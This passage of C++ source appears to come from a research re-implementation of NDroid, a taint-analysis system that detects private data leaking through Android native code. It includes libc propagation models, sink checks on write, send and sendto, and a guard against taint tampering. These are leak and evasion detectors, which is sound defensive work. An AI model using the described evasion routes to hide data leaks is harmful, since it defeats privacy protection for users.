inline LeakSummary summarize(const std::vector<NativeLeak>& leaks) {
  LeakSummary s;
  for (const NativeLeak& leak : leaks) {
    ++s.total;
    s.taint_union |= leak.taint;
    ++s.by_sink[leak.sink];
    ++s.by_destination[leak.destination];
  }
  return s;
}

class TraceLog {
 public:
  void line(std::string s) {
    if (echo) std::fputs((s + "\n").c_str(), stdout);
    if (lines_.size() >= kMaxLines) {
      ++dropped_;
      return;
    }
    lines_.push_back(std::move(s));
  }
  [[nodiscard]] const std::vector<std::string>& lines() const {
    return lines_;
  }
  [[nodiscard]] bool contains(std::string_view needle) const {
    for (const std::string& l : lines_) {
      if (l.find(needle) != std::string::npos) return true;
    }
    return false;
  }
  void clear() { lines_.clear(); }

  [[nodiscard]] u64 dropped() const { return dropped_; }

  /// Echo to stdout as lines arrive (the figure benches enable this).
  bool echo = false;

 private:
  static constexpr std::size_t kMaxLines = 65536;
  std::vector<std::string> lines_;
  u64 dropped_ = 0;
};

}  // namespace ndroid::core
