// SourcePolicy: the record NDroid builds when tainted data enters a native
// method (paper §V-B, Listing 1 verbatim):
//
//   typedef struct _SourcePolicy{
//     int method_address;
//     int tR0, tR1, tR2, tR3;
//     int stack_args_num;
//     int* stack_args_taints;
//     char* method_shorty;
//     int access_flag;
//     void (*handler) (struct _SourcePolicy*, CPUState*);
//   } SourcePolicy;
//
// "Each native method receiving tainted parameters will have a SourcePolicy
// and we use a hash map to store the pairs of <addr, SourcePolicy>, where
// addr is the native method's address."
#pragma once

#include <functional>
#include <string>
#include <unordered_map>
#include <vector>

#include "arm/cpu_state.h"
#include "common/types.h"

namespace ndroid::core {

struct SourcePolicy {
  GuestAddr method_address = 0;
  Taint tR0 = 0, tR1 = 0, tR2 = 0, tR3 = 0;
  u32 stack_args_num = 0;
  std::vector<Taint> stack_args_taints;
  std::string method_shorty;
  u32 access_flag = 0;
  /// Completes taint initialisation when execution reaches the method's
  /// first instruction (set by the DVM hook engine).
  std::function<void(SourcePolicy&, arm::CPUState&)> handler;

  /// Indirect references passed as L-type parameters, with their taints
  /// (feeds the iref-keyed object shadow).
  std::vector<std::pair<u32, Taint>> object_args;
};

class SourcePolicyMap {
 public:
  void put(SourcePolicy policy) {
    policies_[policy.method_address] = std::move(policy);
  }
  [[nodiscard]] SourcePolicy* find(GuestAddr method_address) {
    auto it = policies_.find(method_address);
    return it == policies_.end() ? nullptr : &it->second;
  }
  void erase(GuestAddr method_address) { policies_.erase(method_address); }
  [[nodiscard]] std::size_t size() const { return policies_.size(); }

 private:
  std::unordered_map<GuestAddr, SourcePolicy> policies_;
};

}  // namespace ndroid::core
