#include "core/summary_gate.h"

#include <algorithm>

namespace ndroid::core {

using static_analysis::LibrarySummary;
using static_analysis::TaintSummary;

SummaryGate::SummaryGate(
    std::vector<std::shared_ptr<const LibrarySummary>> libraries)
    : libraries_(std::move(libraries)) {
  // Merge the per-library indices first: the merged map's nodes never move,
  // so spans can point at its summaries while the shared snapshots provide
  // the (equally stable) function CFGs.
  for (const auto& lib : libraries_) {
    if (lib == nullptr) continue;
    for (const auto& [entry, s] : lib->index.summaries) {
      merged_index_.summaries.emplace(entry, s);
    }
  }
  for (const auto& lib : libraries_) {
    if (lib == nullptr) continue;
    for (const auto& [entry, fn] : lib->program.functions) {
      const TaintSummary* s = merged_index_.find(entry);
      if (s == nullptr) continue;
      auto bounds = lib->boundaries.find(entry);
      if (bounds == lib->boundaries.end()) continue;
      Span span;
      span.lo = fn.lo;
      span.hi = fn.hi;
      span.fn = &fn;
      span.summary = s;
      span.boundaries = &bounds->second;
      spans_.push_back(std::move(span));
    }
  }
  std::sort(spans_.begin(), spans_.end(),
            [](const Span& a, const Span& b) { return a.lo < b.lo; });
  max_hi_.reserve(spans_.size());
  GuestAddr running = 0;
  for (const Span& s : spans_) {
    running = std::max(running, s.hi);
    max_hi_.push_back(running);
  }
}

const TaintSummary* SummaryGate::lookup(GuestAddr pc, bool thumb) const {
  // First span with lo > pc; candidates are at indices < i. Function spans
  // can overlap, so walk back until the prefix max of hi drops below pc.
  auto it = std::upper_bound(
      spans_.begin(), spans_.end(), pc,
      [](GuestAddr v, const Span& s) { return v < s.lo; });
  for (auto i = static_cast<std::size_t>(it - spans_.begin()); i-- > 0;) {
    if (max_hi_[i] <= pc) break;
    const Span& s = spans_[i];
    if (pc < s.lo || pc >= s.hi) continue;
    if (s.fn->thumb != thumb) continue;
    if (!s.boundaries->contains(pc)) continue;
    return s.summary;
  }
  return nullptr;
}

std::vector<GuestAddr> SummaryGate::transparent_entries() const {
  std::vector<GuestAddr> out;
  for (const auto& [entry, s] : merged_index_.summaries) {
    if (s.transparent) out.push_back(entry);
  }
  return out;
}

}  // namespace ndroid::core
