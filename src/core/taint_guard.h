// Taint protection (paper §VII, implemented extension).
//
// "We will realize a protection mechanism for taints before applying NDroid
// to analyze advanced malicious apps because they may modify or remove the
// taints. For example, an app without root privileges can manipulate the
// taints in DVM. ... NDroid can be easily extended to protect taints and
// prevent evasions through stack manipulation or trusted function
// modification, because it monitors the memory, hooks major file and memory
// functions, and inspects every native instruction."
//
// The guard watches every store executed by third-party native code and
// flags writes into protected guest regions:
//   * the DVM stack (where TaintDroid keeps the interleaved taint tags —
//     overwriting a tag slot silently launders a taint);
//   * libdvm.so (trusted-function modification);
//   * the kernel structure area (VMI tampering).
#pragma once

#include <functional>
#include <string>
#include <vector>

#include "android/device.h"
#include "arm/cpu.h"

namespace ndroid::core {

struct TamperAlert {
  GuestAddr pc = 0;        // the offending store instruction
  GuestAddr target = 0;    // where it wrote
  std::string region;      // protected region name
  std::string module;      // module the store executed from
};

class TaintGuard {
 public:
  /// `third_party` classifies code addresses as app native code; stores
  /// from system code (libdvm itself, libc) are legitimate.
  TaintGuard(android::Device& device,
             std::function<bool(GuestAddr)> third_party);

  /// Instruction-event dispatch: call before each instruction executes.
  void on_insn(arm::Cpu& cpu, const arm::Insn& insn, GuestAddr pc);

  [[nodiscard]] const std::vector<TamperAlert>& alerts() const {
    return alerts_;
  }
  void clear() { alerts_.clear(); }

 private:
  struct Protected {
    GuestAddr start;
    GuestAddr end;
    std::string name;
  };

  void check(arm::Cpu& cpu, GuestAddr pc, GuestAddr target);

  android::Device& device_;
  std::function<bool(GuestAddr)> third_party_;
  std::vector<Protected> protected_;
  std::vector<TamperAlert> alerts_;
};

}  // namespace ndroid::core
