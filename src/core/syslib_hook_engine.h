// NDroid's System Lib Hook Engine (paper §V-D).
//
// "Since the system standard functions will be frequently called by native
// libraries, instrumenting every instruction in these standard functions
// will take a long time and incur heavy overhead. Instead, we model the
// taint propagation operations for popular functions" (Table VI).
//
// Each modeled function gets an entry handler (and optionally an exit
// handler fired when control returns to the captured LR). The memcpy model
// is Listing 3 verbatim: per-byte addTaint(dst+i, getTaint(src+i)).
//
// Sink checking (Table VII): functions marked * in the paper — write*,
// send*, sendto*, fwrite*, fputc*, fputs* — plus fprintf (the Fig. 8
// SinkHandler). Kernel-level sinks are checked at SVC instructions; libc
// FILE* sinks at function entry.
#pragma once

#include <functional>
#include <unordered_map>

#include "common/addr_filter.h"
#include "arm/cpu.h"
#include "core/report.h"
#include "core/taint_engine.h"
#include "libc/libc.h"
#include "os/kernel.h"

namespace ndroid::core {

class SysLibHookEngine {
 public:
  SysLibHookEngine(libc::Libc& libc, os::Kernel& kernel, TaintEngine& engine,
                   TraceLog& log, bool models_enabled);

  /// Branch-event dispatch (modeled-function entry/exit).
  void on_branch(arm::Cpu& cpu, GuestAddr from, GuestAddr to);

  /// Cheap prefilter: false means on_branch(to) is guaranteed to be a no-op.
  [[nodiscard]] bool wants_branch(GuestAddr to) const {
    return !exits_.empty() || targets_.maybe(to);
  }

  /// Instruction-event dispatch (SVC sink checks).
  void on_insn(arm::Cpu& cpu, const arm::Insn& insn, GuestAddr pc);

  [[nodiscard]] const std::vector<NativeLeak>& leaks() const {
    return leaks_;
  }
  void clear_leaks() { leaks_.clear(); }

  [[nodiscard]] u64 models_applied() const { return models_applied_; }

 private:
  struct Hooks {
    std::function<void(arm::Cpu&)> entry;
    /// Built per-invocation by `entry` when exit work is needed.
  };

  void add_model(const std::string& name,
                 std::function<void(arm::Cpu&)> entry);
  /// Registers a model whose exit handler needs entry-time arguments.
  void add_model_with_exit(
      const std::string& name,
      std::function<std::function<void(arm::Cpu&)>(arm::Cpu&)> entry);

  void install_models();
  void install_sinks();

  u32 guest_strlen(arm::Cpu& cpu, GuestAddr s);
  /// Renders a printf-style call and computes the taint union of its
  /// arguments (mirrors the libc helper's format logic).
  std::pair<std::string, Taint> format_taint(arm::Cpu& cpu,
                                             const std::string& fmt,
                                             u32 first_reg);
  void record_leak(std::string sink, std::string destination, Taint taint,
                   std::string data, GuestAddr pc);

  libc::Libc& libc_;
  os::Kernel& kernel_;
  TaintEngine& engine_;
  TraceLog& log_;
  bool models_enabled_;

  std::unordered_map<GuestAddr, std::pair<std::string,
                                          std::function<void(arm::Cpu&)>>>
      entry_hooks_;
  /// Prefilter over entry_hooks_ keys, maintained by add_model*().
  AddrBloom targets_;
  struct PendingExit {
    GuestAddr ret_to;
    std::function<void(arm::Cpu&)> fn;
  };
  std::vector<PendingExit> exits_;

  std::vector<NativeLeak> leaks_;
  u64 models_applied_ = 0;
};

}  // namespace ndroid::core
