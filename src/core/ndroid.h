// NDroid: the paper's dynamic taint analysis system (§V).
//
// Attaches four modules to the emulator's instrumentation surfaces
// (paper Fig. 4):
//   (1) DVM Hook Engine          — JNI-related function hooks;
//   (2) Instruction Tracer       — per-instruction Table V propagation in
//                                  third-party native code;
//   (3) System Lib Hook Engine   — Table VI models + Table VII sinks;
//   (4) Taint Engine             — shadow registers + byte-granular map.
// The OS-level view reconstructor (§V-F) is available as
// os::ViewReconstructor and is used to resolve module scopes.
//
// Configuration toggles expose the paper's design choices for the ablation
// benches, and allow building the comparison systems:
//   * NDroidConfig{}                          — NDroid as published;
//   * droidscope_mode()                       — whole-system instruction
//     tracing, no models, no JNI semantics (the DroidScope-style baseline);
//   * disabling everything ~ TaintDroid-only (just don't attach NDroid).
#pragma once

#include <memory>

#include "android/device.h"
#include "core/dvm_hook_engine.h"
#include "core/instruction_tracer.h"
#include "core/report.h"
#include "core/summary_gate.h"
#include "core/syslib_hook_engine.h"
#include "core/taint_engine.h"
#include "core/taint_guard.h"

namespace ndroid::static_analysis {
class SummaryCache;
class SummaryStore;
}

namespace ndroid::core {

struct NDroidConfig {
  /// Attach the DVM Hook Engine (JNI entry/exit, object creation, field
  /// access, exception hooks).
  bool dvm_hooks = true;
  /// Attach the per-instruction tracer.
  bool instruction_tracer = true;
  /// Model standard-library functions (Table VI) instead of tracing them.
  bool syslib_models = true;
  /// Guard dvmCallMethod*/dvmInterpret hooks with the T1..T6 precondition
  /// chains (Fig. 5). Off = hook every entry (ablation).
  bool multilevel_hooking = true;
  /// Cache instruction->handler classifications (§V-C). Off = re-classify
  /// every instruction (ablation).
  bool handler_cache = true;
  /// Check native sinks (Table VII).
  bool sink_checks = true;
  /// §VII extension: flag third-party stores into the DVM stack, libdvm, or
  /// kernel structures (taint tampering / trusted-function modification).
  bool taint_protection = false;
  /// Taint-liveness fast path: when the CPU executes translation blocks,
  /// NDroid's block gate skips all per-instruction work for blocks that
  /// provably cannot move taint (nothing tainted anywhere, or clean
  /// registers and no memory operations in the block). Off = hook every
  /// instruction regardless (ablation; also forced off by
  /// trace_disassembly, which must see every in-scope instruction).
  bool taint_liveness_fastpath = true;
  /// Static pre-analysis feedback (attach_static_analysis): summaries of the
  /// app's native functions let the block gate skip taint-transparent code
  /// even while taint is live, and let the DVM Hook Engine pre-place
  /// SourcePolicies only at taint-relevant JNI methods. Off = the attach
  /// call becomes a no-op (ablation: liveness-only gating).
  bool static_summaries = true;
  /// Optional shared cache of per-library static artifacts (the farm's
  /// cross-app amortisation, src/farm). When set, attach_static_analysis
  /// lifts each native library at most once per distinct content hash
  /// process-wide and shares the immutable snapshot; when null, every
  /// attach computes its own summaries (the pre-farm behaviour). The cache
  /// must outlive this NDroid. Thread-safe: many NDroid instances on
  /// different threads may point at the same cache.
  static_analysis::SummaryCache* summary_cache = nullptr;
  /// Optional persistent on-disk summary store. When `summary_cache` is
  /// set, attach the store to the cache instead (SummaryCache::set_store);
  /// this field covers the cache-less path: attach_static_analysis loads
  /// each library's artifact from disk when a hash-verified entry exists
  /// and writes back fresh lifts. This is how isolated farm worker
  /// *processes* — whose in-memory caches die with them — amortise static
  /// analysis across jobs, runs, and machines. Must outlive this NDroid.
  static_analysis::SummaryStore* summary_store = nullptr;

  enum class Scope {
    kThirdParty,          // app .so files only (NDroid, §V-C)
    kThirdPartyAndLibc,   // ablation: no models -> must trace libc loops
    kAll,                 // whole system (DroidScope-mode)
  };
  Scope scope = Scope::kThirdParty;

  bool echo_log = false;  // stream the trace log to stdout (figure benches)
  /// Log the disassembly of every traced instruction (debugging aid).
  bool trace_disassembly = false;

  /// The DroidScope-style configuration: instruction-level whole-system
  /// tracking without JNI semantic hooks or library models.
  static NDroidConfig droidscope_mode() {
    NDroidConfig cfg;
    cfg.dvm_hooks = false;
    cfg.syslib_models = false;
    cfg.multilevel_hooking = false;
    cfg.sink_checks = false;
    cfg.scope = Scope::kAll;
    // DroidScope-style tracing instruments every instruction unconditionally;
    // it has no taint-liveness gating. Keep the baseline honest.
    cfg.taint_liveness_fastpath = false;
    return cfg;
  }
};

class NDroid {
 public:
  explicit NDroid(android::Device& device, NDroidConfig config = {});
  ~NDroid();

  NDroid(const NDroid&) = delete;
  NDroid& operator=(const NDroid&) = delete;

  /// Leaks detected at native-context sinks.
  [[nodiscard]] const std::vector<NativeLeak>& leaks() const {
    return syslib_->leaks();
  }
  void clear_leaks() { syslib_->clear_leaks(); }

  TraceLog& log() { return log_; }
  TaintEngine& taint_engine() { return engine_; }
  DvmHookEngine& dvm_hooks() { return *dvm_hooks_; }
  SysLibHookEngine& syslib() { return *syslib_; }
  InstructionTracer& tracer() { return *tracer_; }
  /// Non-null only when config.taint_protection is on.
  [[nodiscard]] TaintGuard* guard() { return guard_.get(); }
  [[nodiscard]] const NDroidConfig& config() const { return config_; }

  /// Runs the static pre-analysis (§ tentpole): discovers the app's code
  /// regions through the OS view reconstructor, lifts CFGs from every
  /// registered native method, computes taint summaries, and feeds them
  /// back into the dynamic layer (summary-aware block gate on the finer
  /// taint-mutation epoch; transparent-method set for the DVM Hook Engine).
  /// Call after the app's native libraries are loaded and its methods
  /// registered. Returns the gate (nullptr when config.static_summaries is
  /// off). Safe to call again after more libraries load — rebuilds.
  const SummaryGate* attach_static_analysis();
  /// Non-null after a successful attach_static_analysis().
  [[nodiscard]] const SummaryGate* summary_gate() const {
    return summary_gate_.get();
  }

  /// Blocks the gate skipped on summary evidence while taint was live (each
  /// count is a fresh gate evaluation; epoch-memoised re-skips don't count).
  u64 summary_gate_skips = 0;

 private:
  [[nodiscard]] std::function<bool(GuestAddr)> scope_predicate() const;
  /// Decides once per translation block whether per-instruction hooks are
  /// needed (false = the taint-liveness fast path skips the whole block).
  bool block_gate(arm::TranslationBlock& tb);
  [[nodiscard]] bool block_in_scope(arm::TranslationBlock& tb);

  android::Device& device_;
  NDroidConfig config_;
  TaintEngine engine_;
  TraceLog log_;
  std::function<bool(GuestAddr)> scope_;  // tracer scope, used by the gate
  std::unique_ptr<InstructionTracer> tracer_;
  std::unique_ptr<DvmHookEngine> dvm_hooks_;
  std::unique_ptr<SysLibHookEngine> syslib_;
  std::unique_ptr<TaintGuard> guard_;
  std::unique_ptr<SummaryGate> summary_gate_;
  int branch_hook_id_ = 0;
  int insn_hook_id_ = 0;
  /// Branch-gate memo epoch: bumped whenever the hook engines' dynamic
  /// interest state (pending exits, NOF/JNI stacks, chain) may have
  /// changed. All such mutations happen inside the branch-hook dispatch,
  /// which bumps this unconditionally after running the engines.
  u64 analysis_epoch_ = 0;
};

}  // namespace ndroid::core
