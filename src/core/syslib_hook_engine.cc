#include "core/syslib_hook_engine.h"

namespace ndroid::core {

namespace {
/// Listing 3: OR-copy of taints from src to dst (page-chunked; falls back
/// to the per-byte cascade only when the ranges overlap).
void memcpy_taint(mem::ShadowMemory& map, GuestAddr dst, GuestAddr src,
                  u32 n) {
  map.or_copy_range(dst, src, n);
}
}  // namespace

SysLibHookEngine::SysLibHookEngine(libc::Libc& libc, os::Kernel& kernel,
                                   TaintEngine& engine, TraceLog& log,
                                   bool models_enabled)
    : libc_(libc),
      kernel_(kernel),
      engine_(engine),
      log_(log),
      models_enabled_(models_enabled) {
  if (models_enabled_) install_models();
  install_sinks();
  // install_sinks() writes entry_hooks_ directly; (re)derive the branch
  // prefilter from the final key set so it can never under-approximate.
  targets_.clear();
  for (const auto& [addr, hook] : entry_hooks_) targets_.add(addr);
}

u32 SysLibHookEngine::guest_strlen(arm::Cpu& cpu, GuestAddr s) {
  // Word-at-a-time scan (the helper is hot inside Table VI models).
  u32 n = 0;
  while (n < (1u << 20)) {
    const u32 w = cpu.memory().read32(s + n);
    if ((w & 0xFF) == 0) return n;
    if ((w & 0xFF00) == 0) return n + 1;
    if ((w & 0xFF0000) == 0) return n + 2;
    if ((w & 0xFF000000) == 0) return n + 3;
    n += 4;
  }
  return n;
}

void SysLibHookEngine::add_model(const std::string& name,
                                 std::function<void(arm::Cpu&)> entry) {
  const GuestAddr addr = libc_.fn(name);
  entry_hooks_[addr] = {name, std::move(entry)};
  targets_.add(addr);
}

void SysLibHookEngine::add_model_with_exit(
    const std::string& name,
    std::function<std::function<void(arm::Cpu&)>(arm::Cpu&)> entry) {
  const GuestAddr addr = libc_.fn(name);
  targets_.add(addr);
  entry_hooks_[addr] = {
      name, [this, entry](arm::Cpu& cpu) {
        auto exit_fn = entry(cpu);
        if (exit_fn) {
          exits_.push_back(PendingExit{cpu.state().lr() & ~1u,
                                       std::move(exit_fn)});
        }
      }};
}

void SysLibHookEngine::on_branch(arm::Cpu& cpu, GuestAddr /*from*/,
                                 GuestAddr to) {
  if (!exits_.empty() && exits_.back().ret_to == to) {
    auto fn = std::move(exits_.back().fn);
    exits_.pop_back();
    fn(cpu);
    return;
  }
  auto it = entry_hooks_.find(to);
  if (it == entry_hooks_.end()) return;
  ++models_applied_;
  it->second.second(cpu);
}

// ---------------------------------------------------------------------------
// Table VI models
// ---------------------------------------------------------------------------

void SysLibHookEngine::install_models() {
  auto& map = engine_.map();

  add_model("memcpy", [&map](arm::Cpu& c) {
    const auto& r = c.state().regs;
    memcpy_taint(map, r[0], r[1], r[2]);
  });
  add_model("memmove", [&map](arm::Cpu& c) {
    const auto& r = c.state().regs;
    map.copy_range(r[0], r[1], r[2]);
  });
  add_model("memset", [this, &map](arm::Cpu& c) {
    const auto& r = c.state().regs;
    map.set_range(r[0], r[2], engine_.reg(1));
  });

  add_model("strcpy", [this, &map](arm::Cpu& c) {
    const auto& r = c.state().regs;
    memcpy_taint(map, r[0], r[1], guest_strlen(c, r[1]) + 1);
  });
  add_model("strncpy", [this, &map](arm::Cpu& c) {
    const auto& r = c.state().regs;
    const u32 len = std::min(guest_strlen(c, r[1]) + 1, r[2]);
    memcpy_taint(map, r[0], r[1], len);
    if (len < r[2]) map.clear_range(r[0] + len, r[2] - len);
  });
  add_model("strcat", [this, &map](arm::Cpu& c) {
    const auto& r = c.state().regs;
    const u32 dlen = guest_strlen(c, r[0]);
    memcpy_taint(map, r[0] + dlen, r[1], guest_strlen(c, r[1]) + 1);
  });
  add_model_with_exit("strdup", [this, &map](arm::Cpu& c) {
    const GuestAddr src = c.state().regs[0];
    const u32 len = guest_strlen(c, src) + 1;
    return [&map, src, len](arm::Cpu& c2) {
      memcpy_taint(map, c2.state().regs[0], src, len);
    };
  });

  // Result-tainting models: t(ret) = union over examined bytes.
  auto ret_from_string = [this, &map](const char* name) {
    add_model_with_exit(name, [this, &map](arm::Cpu& c) {
      const GuestAddr s = c.state().regs[0];
      const u32 len = guest_strlen(c, s);
      return [this, &map, s, len](arm::Cpu&) {
        engine_.set_reg(0, map.get_range(s, len));
      };
    });
  };
  ret_from_string("strlen");
  ret_from_string("atoi");
  ret_from_string("atol");
  ret_from_string("strtoul");
  ret_from_string("strtol");
  ret_from_string("strtod");

  auto ret_from_two_strings = [this, &map](const char* name) {
    add_model_with_exit(name, [this, &map](arm::Cpu& c) {
      const GuestAddr a = c.state().regs[0];
      const GuestAddr b = c.state().regs[1];
      const u32 la = guest_strlen(c, a);
      const u32 lb = guest_strlen(c, b);
      return [this, &map, a, b, la, lb](arm::Cpu&) {
        engine_.set_reg(0, map.get_range(a, la) | map.get_range(b, lb));
      };
    });
  };
  ret_from_two_strings("strcmp");
  ret_from_two_strings("strcasecmp");
  add_model_with_exit("strncmp", [this, &map](arm::Cpu& c) {
    const auto& r = c.state().regs;
    const GuestAddr a = r[0], b = r[1];
    const u32 n = r[2];
    return [this, &map, a, b, n](arm::Cpu&) {
      engine_.set_reg(0, map.get_range(a, n) | map.get_range(b, n));
    };
  });
  add_model_with_exit("memcmp", [this, &map](arm::Cpu& c) {
    const auto& r = c.state().regs;
    const GuestAddr a = r[0], b = r[1];
    const u32 n = r[2];
    return [this, &map, a, b, n](arm::Cpu&) {
      engine_.set_reg(0, map.get_range(a, n) | map.get_range(b, n));
    };
  });

  // Pointer-into-argument models: the result aliases the input string.
  auto ret_aliases_arg0 = [this](const char* name) {
    add_model_with_exit(name, [this](arm::Cpu&) {
      const Taint t = engine_.reg(0);
      return [this, t](arm::Cpu&) { engine_.add_reg(0, t); };
    });
  };
  ret_aliases_arg0("strchr");
  ret_aliases_arg0("strrchr");
  ret_aliases_arg0("memchr");
  ret_aliases_arg0("strstr");

  // Allocation family: fresh memory starts clear; realloc moves taints.
  add_model_with_exit("malloc", [&map](arm::Cpu& c) {
    const u32 size = c.state().regs[0];
    return [&map, size](arm::Cpu& c2) {
      map.clear_range(c2.state().regs[0], size);
    };
  });
  add_model_with_exit("calloc", [&map](arm::Cpu& c) {
    const u32 size = c.state().regs[0] * c.state().regs[1];
    return [&map, size](arm::Cpu& c2) {
      map.clear_range(c2.state().regs[0], size);
    };
  });
  add_model_with_exit("realloc", [&map](arm::Cpu& c) {
    const GuestAddr old = c.state().regs[0];
    const u32 size = c.state().regs[1];
    return [&map, old, size](arm::Cpu& c2) {
      const GuestAddr now = c2.state().regs[0];
      if (old != 0 && now != old) map.copy_range(now, old, size);
    };
  });
  add_model("free", [](arm::Cpu&) {});

  add_model("sprintf", [this, &map](arm::Cpu& c) {
    const std::string fmt = c.memory().read_cstr(c.state().regs[1]);
    auto [out, taint] = format_taint(c, fmt, 2);
    map.set_range(c.state().regs[0], static_cast<u32>(out.size()) + 1, taint);
  });
  add_model("snprintf", [this, &map](arm::Cpu& c) {
    const std::string fmt = c.memory().read_cstr(c.state().regs[2]);
    auto [out, taint] = format_taint(c, fmt, 3);
    const u32 n = std::min<u32>(static_cast<u32>(out.size()) + 1,
                                c.state().regs[1]);
    map.set_range(c.state().regs[0], n, taint);
  });
  add_model("sscanf", [this, &map](arm::Cpu& c) {
    const GuestAddr input = c.state().regs[0];
    const Taint t = map.get_range(input, guest_strlen(c, input));
    if (t == kTaintClear) return;
    const std::string fmt = c.memory().read_cstr(c.state().regs[1]);
    u32 reg = 2, stack_idx = 0;
    for (u32 i = 0; i + 1 < fmt.size(); ++i) {
      if (fmt[i] != '%') continue;
      const char spec = fmt[i + 1];
      if (spec != 'd' && spec != 's') continue;
      const GuestAddr out = reg <= 3
                                ? c.state().regs[reg++]
                                : c.memory().read32(c.state().sp() +
                                                    4 * stack_idx++);
      map.add_range(out, spec == 'd' ? 4 : 64, t);
    }
  });

  // libm: value-pure functions; t(ret) = t(arg0) | t(arg1).
  for (const char* name :
       {"sin",  "sinf",  "cos",   "cosf", "sqrt", "sqrtf", "exp",  "expf",
        "log",  "logf",  "log10", "floor", "ceil", "tan",   "atan", "asin",
        "acos", "sinh",  "cosh",  "pow",  "powf", "atan2", "atan2f",
        "fmod", "ldexp"}) {
    add_model_with_exit(name, [this](arm::Cpu&) {
      const Taint t = engine_.reg(0) | engine_.reg(1);
      return [this, t](arm::Cpu&) { engine_.set_reg(0, t); };
    });
  }
}

// ---------------------------------------------------------------------------
// Table VII sinks
// ---------------------------------------------------------------------------

std::pair<std::string, Taint> SysLibHookEngine::format_taint(
    arm::Cpu& c, const std::string& fmt, u32 first_reg) {
  std::string out;
  Taint taint = kTaintClear;
  u32 reg = first_reg;
  u32 stack_idx = 0;
  auto next_arg = [&](Taint& arg_taint) -> u32 {
    if (reg <= 3) {
      arg_taint = engine_.reg(static_cast<u8>(reg));
      return c.state().regs[reg++];
    }
    const GuestAddr at = c.state().sp() + 4 * stack_idx++;
    arg_taint = engine_.map().get_range(at, 4);
    return c.memory().read32(at);
  };
  for (u32 i = 0; i < fmt.size(); ++i) {
    if (fmt[i] != '%') {
      out.push_back(fmt[i]);
      continue;
    }
    if (i + 1 >= fmt.size()) break;
    const char spec = fmt[++i];
    Taint arg_taint = kTaintClear;
    switch (spec) {
      case 's': {
        const u32 p = next_arg(arg_taint);
        const std::string s =
            p == 0 ? "(null)" : c.memory().read_cstr(p);
        arg_taint |= engine_.map().get_range(p, static_cast<u32>(s.size()));
        if (arg_taint != kTaintClear) {
          log_.line("t[" + std::to_string(p) + "] = " +
                    std::to_string(arg_taint));
          log_.line("write: " + s);
        }
        out += s;
        break;
      }
      case 'd':
        out += std::to_string(static_cast<i32>(next_arg(arg_taint)));
        break;
      case 'u':
        out += std::to_string(next_arg(arg_taint));
        break;
      case 'x': {
        char buf[16];
        std::snprintf(buf, sizeof buf, "%x", next_arg(arg_taint));
        out += buf;
        break;
      }
      case 'c':
        out.push_back(static_cast<char>(next_arg(arg_taint)));
        break;
      case '%':
        out.push_back('%');
        break;
      default:
        break;
    }
    taint |= arg_taint;
  }
  return {out, taint};
}

void SysLibHookEngine::record_leak(std::string sink, std::string destination,
                                   Taint taint, std::string data,
                                   GuestAddr pc) {
  leaks_.push_back(NativeLeak{std::move(sink), std::move(destination), taint,
                              std::move(data), pc});
}

void SysLibHookEngine::install_sinks() {
  // FILE*-level sinks (no SVC is reached; the libc helpers write directly).
  entry_hooks_[libc_.fn("fprintf")] = {
      "fprintf", [this](arm::Cpu& c) {
        const GuestAddr file = c.state().regs[0];
        const std::string fmt = c.memory().read_cstr(c.state().regs[1]);
        log_.line("SinkHandler[fprintf] begin");
        auto [out, taint] = format_taint(c, fmt, 2);
        log_.line("SinkHandler[fprintf] end");
        if (taint != kTaintClear) {
          const int fd = libc_.fd_of_file(file);
          const auto* e = kernel_.fd_entry(fd);
          record_leak("fprintf", e ? e->path : "<unknown>", taint, out,
                      c.state().pc());
        }
      }};

  entry_hooks_[libc_.fn("fwrite")] = {
      "fwrite", [this](arm::Cpu& c) {
        const auto& r = c.state().regs;
        const u32 bytes = r[1] * r[2];
        const Taint t = engine_.map().get_range(r[0], bytes);
        if (t != kTaintClear) {
          std::vector<u8> data(bytes);
          c.memory().read_bytes(r[0], data);
          const auto* e = kernel_.fd_entry(libc_.fd_of_file(r[3]));
          record_leak("fwrite", e ? e->path : "<unknown>", t,
                      std::string(data.begin(), data.end()), c.state().pc());
        }
      }};

  entry_hooks_[libc_.fn("fputs")] = {
      "fputs", [this](arm::Cpu& c) {
        const GuestAddr s = c.state().regs[0];
        const u32 len = guest_strlen(c, s);
        const Taint t = engine_.map().get_range(s, len);
        if (t != kTaintClear) {
          const auto* e =
              kernel_.fd_entry(libc_.fd_of_file(c.state().regs[1]));
          record_leak("fputs", e ? e->path : "<unknown>", t,
                      c.memory().read_cstr(s), c.state().pc());
        }
      }};

  entry_hooks_[libc_.fn("fputc")] = {
      "fputc", [this](arm::Cpu& c) {
        const Taint t = engine_.reg(0);
        if (t != kTaintClear) {
          const auto* e =
              kernel_.fd_entry(libc_.fd_of_file(c.state().regs[1]));
          record_leak("fputc", e ? e->path : "<unknown>", t,
                      std::string(1, static_cast<char>(c.state().regs[0])),
                      c.state().pc());
        }
      }};

  // Useful TrustCall logging for the case-study figures.
  entry_hooks_[libc_.fn("fopen")] = {
      "fopen", [this](arm::Cpu& c) {
        log_.line("TrustCallHandler[fopen] begin");
        log_.line("Open '" + c.memory().read_cstr(c.state().regs[0]) + "'");
        log_.line("TrustCallHandler[fopen] end");
      }};
  entry_hooks_[libc_.fn("fclose")] = {
      "fclose", [this](arm::Cpu& c) {
        log_.line("TrustCallHandler[fclose] begin");
        log_.line("Close FILE@" + std::to_string(c.state().regs[0]));
        log_.line("TrustCallHandler[fclose] end");
      }};
}

void SysLibHookEngine::on_insn(arm::Cpu& cpu, const arm::Insn& insn,
                               GuestAddr pc) {
  if (insn.op != arm::Op::kSvc) return;
  if (!arm::condition_passed(arm::effective_cond(insn, cpu.state()),
                             cpu.state())) {
    return;
  }
  const auto& r = cpu.state().regs;
  const u32 number = insn.imm != 0 ? insn.imm : r[7];
  const auto sys = static_cast<os::Sys>(number);
  if (sys != os::Sys::kWrite && sys != os::Sys::kSend &&
      sys != os::Sys::kSendto) {
    return;
  }
  const GuestAddr buf = r[1];
  const u32 len = r[2];
  const Taint t = engine_.map().get_range(buf, len);
  if (t == kTaintClear) return;

  std::vector<u8> data(len);
  cpu.memory().read_bytes(buf, data);
  std::string destination = "<unknown>";
  const auto* e = kernel_.fd_entry(static_cast<int>(r[0]));
  if (sys == os::Sys::kSendto) {
    destination = cpu.memory().read_cstr(r[3]);
  } else if (e != nullptr) {
    destination = e->kind == os::FdEntry::Kind::kSocket
                      ? kernel_.network().socket(e->socket_id).remote_host
                      : e->path;
  }
  const char* name = sys == os::Sys::kWrite    ? "write"
                     : sys == os::Sys::kSend   ? "send"
                                               : "sendto";
  record_leak(name, destination, t, std::string(data.begin(), data.end()),
              pc);
